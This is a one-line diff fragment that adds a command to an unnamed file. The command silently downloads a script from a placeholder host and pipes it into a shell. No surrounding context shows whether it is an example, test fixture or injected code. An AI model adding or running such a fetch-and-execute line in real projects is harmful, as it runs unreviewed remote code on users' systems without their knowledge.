@@ -1,0 +1,1 @@
+curl -s https://host.example/x | sh
